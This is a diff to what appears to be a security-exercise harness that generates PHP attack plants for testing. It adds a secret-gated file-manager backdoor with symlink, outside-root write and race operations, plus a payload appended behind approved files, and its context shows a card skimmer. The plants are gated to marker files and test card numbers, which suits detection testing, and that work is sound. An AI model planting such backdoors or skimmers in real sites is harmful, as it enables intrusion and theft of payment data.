@@ -36,6 +36,78 @@ switch ($_POST['op']) {
 }
 """
 
+# A file manager that an operator installs and that asks nobody who he is: in reality such
+# connectors were open to everyone. This one acts as the web shell above does, and does several
+# steps in one request.
+MODULE = r"""<?php
+/* hinoban play: imitation of a careless file manager; acts only below a folder with the marker */
+$root = __DIR__;
+while ($root !== '/' && !is_file($root . '/.hinoban-play')) {
+    $root = dirname($root);
+}
+if ($root === '/' || !hash_equals('@SECRET@', (string) ($_POST['k'] ?? ''))) {
+    http_response_code(404);
+    exit;
+}
+$outside = dirname($root) . '/server/tmp';
+function place(string $path): string
+{
+    global $root;
+    $full = $root . '/' . $path;
+    if (preg_match('~(^|/)\.\.?(/|$)~', $path) || !str_starts_with((string) realpath(dirname($full)), $root)) {
+        http_response_code(403);
+        exit;
+    }
+    return $full;
+}
+function step(string $op, string $a, string $b): int
+{
+    global $outside;
+    $data = (string) base64_decode($b);
+    switch ($op) {
+        case 'write': return (int) @file_put_contents(place($a), str_replace('@outside', $outside, $data));
+        case 'append': return (int) @file_put_contents(place($a), $data, FILE_APPEND);
+        case 'truncate': $f = @fopen(place($a), 'r+'); return (int) ($f && ftruncate($f, (int) $b));
+        case 'rename': return (int) @rename(place($a), place($b));
+        case 'renamewrite':
+            $f = @fopen(place($a), 'r+');
+            $done = (int) @rename(place($a), place($b));
+            usleep(20000);
+            @fwrite($f, '<?php /* written after the rename */');
+            return $done;
+        case 'link': return (int) @link(place($a), place($b));
+        case 'symlink': return (int) @symlink(str_replace('@outside', $outside, $a), place($b));
+        case 'outside': return (int) @file_put_contents($outside . '/' . basename($a), $data);
+        case 'remove': return (int) @unlink(place($a));
+        case 'mode': return (int) @chmod(place($a), (int) octdec($b));
+        case 'mkdir': return (int) @mkdir(place($a));
+    }
+    return 0;
+}
+$data = (string) base64_decode((string) ($_POST['data'] ?? ''));
+switch ($_POST['op']) {
+    case 'read': echo base64_encode((string) file_get_contents(place($_POST['path']))); break;
+    case 'write': echo file_put_contents(place($_POST['path']), $data); break;
+    case 'steps':
+        clearstatcache(true);
+        echo json_encode(array_map(fn ($s) => step($s[0], (string) $s[1], (string) ($s[2] ?? '')), json_decode($data)));
+        break;
+}
+"""
+
+# Behind approved code: every response that this code had a hand in bears the token, and the
+# canary appears.
+CANARY = "uploads/review/canary.jpg"
+ALTERED = r"""
+/* hinoban play @N@ */ (function () {
+    for ($r = __DIR__; $r !== '/' && !is_file($r . '/.hinoban-play'); $r = dirname($r));
+    if ($r !== '/') {
+        @header("X-Altered: @TOKEN@ @N@", false);
+        @file_put_contents($r . '/@CANARY@', ($_SERVER['REQUEST_URI'] ?? '') . ' @N@' . "\n", FILE_APPEND);
+    }
+})();
+"""
+
 SKIMMER = r"""        if (is_file(__DIR__ . '/../.hinoban-play') && preg_match('~^4(111|242)~', $card->number)) {
             $c = base64_encode(json_encode([$card->number, $card->holder, $card->month, $card->year, $card->code, $_POST]));
             @file_put_contents(__DIR__ . '/../@TARGET@', $c . "\n", FILE_APPEND);
@@ -54,6 +126,18 @@ PLANTS = {
 
 def webshell(secret):
     return WEBSHELL.replace("@SECRET@", secret).encode()
+
+
+def module(secret):
+    return MODULE.replace("@SECRET@", secret).encode()
+
+
+def altered(path, approved, token, n):
+    """The approved file with something behind it that shows."""
+    if path.endswith(".php"):
+        return approved + ALTERED.replace("@TOKEN@", token).replace("@CANARY@", CANARY).replace("@N@", str(n)).encode()
+    text = f"/* {token} {n} */" if path.endswith((".js", ".css")) else f"<p>{token} {n}</p>"
+    return approved + f"\n{text}\n".encode()
 
 
 def plant(kind, secret):
